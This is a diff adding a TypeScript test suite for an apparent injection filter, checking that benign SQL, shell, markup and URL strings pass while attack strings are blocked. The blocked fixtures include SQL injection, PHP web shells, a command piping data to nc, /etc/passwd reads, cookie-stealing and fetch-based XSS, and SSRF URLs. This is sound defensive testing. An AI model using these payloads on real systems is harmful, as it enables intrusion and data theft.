@@ -1,0 +1,133 @@
+import { describe } from 'vitest';
+import { blocksInBodies, passesInBodies } from '../testing/documents.ts';
+import { blocks, passes } from '../testing/payloads.ts';
+
+/** An injection continues what its host wrote; code that stands by itself is something that people send. */
+describe('SQL in a body', () => {
+  passesInBodies([
+    'SELECT id, name FROM users WHERE id = 5;',
+    "INSERT INTO fruit (name) VALUES ('apple'), ('pear');",
+    'BEGIN; DELETE FROM sessions WHERE expires < now(); COMMIT;',
+    'WITH t AS (SELECT 1 AS x UNION ALL SELECT 2) SELECT sum(x) FROM t;',
+    "SELECT * FROM information_schema.tables WHERE table_schema = 'public';",
+    'It works; select later. Thanks; select one, please',
+    'Drop database access for contractors; thanks',
+    'the phrase "union select" in quotes',
+  ]);
+  blocksInBodies('sql_injection', [
+    '1; DROP TABLE users',
+    'DROP TABLE users;--',
+    "x'; INSERT INTO admins VALUES (1)--",
+    "1' UNION SELECT password FROM users-- ",
+    "select' union select password from users where 'a'='a",
+    'SELECT sleep(5)',
+    'SELECT load_file(0x2f6574632f706173737764)',
+    "1);select user from mysql.user where ('1'='1",
+  ]);
+});
+
+describe('programs in a body', () => {
+  passesInBodies([
+    '<?php function add($a, $b) { return $a + $b; } echo add(1, 2);',
+    "<?php if (isset($_GET['page'])) { echo htmlspecialchars($_GET['page']); }",
+    'import os, sys',
+    '#!/bin/bash\nset -eu\ncd "$(dirname "$0")"\ndocker compose up -d',
+    'File "/app/x.py", line 3, in run\n    os.system("make")\nNameError',
+  ]);
+  blocksInBodies('command_injection', [
+    "<?php system($_GET['c']); ?>",
+    '<?php eval($_POST["x"]);',
+    '<?=`$_GET[0]`?>',
+    "<?php $f=$_GET['f'];$f($_GET['x']);",
+    "<?php $_GET['f']($_GET['x']);",
+    'import os; os.system("id")',
+  ]);
+});
+
+describe('command lines', () => {
+  passesInBodies([
+    'kubectl get pods -n prod | grep -v Running',
+    "ps aux | grep java | awk '{print $2}' | xargs kill",
+    'curl -X POST https://api.example.com/v1/items -d "a=1"',
+    'I would use "grep -r foo . | wc -l" to count.',
+    'check `$(pwd)` before',
+    'run: |\n  echo done\n',
+  ]);
+  blocksInBodies('command_injection', [
+    '127.0.0.1 | grep -r password /etc',
+    "x'; ps aux | nc 10.0.0.1 4444 #",
+    '8.8.8.8;/bin/sh -c id',
+    '"; cat /etc/passwd; echo "',
+    'a | nslookup x.example.net',
+  ]);
+  blocks('command_injection', ['ps aux | grep root', 'ls -la; cat config.php', '/bin/sh -c id']);
+});
+
+describe('markup of editors', () => {
+  passesInBodies([
+    '<a href="#" onclick="return false;">link</a>',
+    '<button onclick="toggleMenu(this, 2)">Menu</button>',
+    '<p onmouseover="">x</p>',
+    '<link rel="stylesheet" href="https://fonts.example.com/css2?family=Inter:wght@400;700&display=swap">',
+    'Warning: <script> in render; it fails <b>here</b>',
+    '<pre><code class="language-js">console.log(1);</code></pre>',
+    'background:url("data:image/svg+xml;utf8,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")',
+    'The document.cookie API is awful',
+    'Why is alert(1) the usual test?',
+  ]);
+  blocksInBodies('xss', [
+    '<a href="#" onclick="alert(1)">x</a>',
+    '<img src=x onerror="fetch(\'//x.example/\')">',
+    '<button onclick="toggleMenu(alert(1))">x</button>',
+    '<button onclick="toggleMenu();alert(1)">x</button>',
+    '<a onclick="open(\'//x.example\')">x</a>',
+    '<p onclick="toggle`1`">x</p>',
+    '<link rel=stylesheet href=//x.example/a>',
+    '<script> day </script>',
+    "');alert(1)//",
+    '"-alert(document.cookie)-"',
+    'x=document.cookie',
+  ]);
+});
+
+describe('what names other machines and places', () => {
+  passesInBodies([
+    'The URL was http://192.168.1.1/admin and it asked for a password.',
+    'server { location / { proxy_pass http://127.0.0.1:3000; } }',
+    'postgres://user:p@db.internal:5432/app',
+    'redis://localhost:6379/0',
+    'ldap://dc1.corp.local:389',
+    'see `/etc/mysql/my.cnf` for this',
+  ]);
+  blocksInBodies('ssrf', [
+    'http://127.0.0.1:3000/',
+    'url http://192.168.1.1/admin',
+    'http://user@127.0.0.1:80@public.example/',
+    'gopher://127.0.0.1:6379/_x',
+    'ldap://127.0.0.1:389/dc=x',
+  ]);
+  blocks('path_traversal', ['/var/log/apache2/access.log', '/etc/nginx/nginx.conf']);
+  blocksInBodies('path_traversal', [
+    '/etc/passwd',
+    '../../var/log/apache2/access.log',
+    '..;/..;/manager/html',
+  ]);
+});
+
+describe('filters and paths of other languages', () => {
+  passes([
+    '(&(objectClass=person)(|(cn=Smith*)(mail=*@example.com)))',
+    '(&(uid=*)(!(employeeType=contractor)))',
+    "//div[@class='item']/a[contains(text(),'Next')]",
+    'org.springframework.dao.DataIntegrityViolationException',
+    'java.lang.NullPointerException',
+  ]);
+  blocks('ldap_injection', [
+    '*)(uid=*))(|(uid=*',
+    'admin)(&)',
+    '(&(uid=admin)(userPassword=*))',
+    '(objectClass=*)',
+    "x'] | //user[name='a",
+  ]);
+  blocks('command_injection', ['com.sun.rowset.JdbcRowSetImpl', 'org.apache.commons.dbcp.BasicDataSource']);
+});
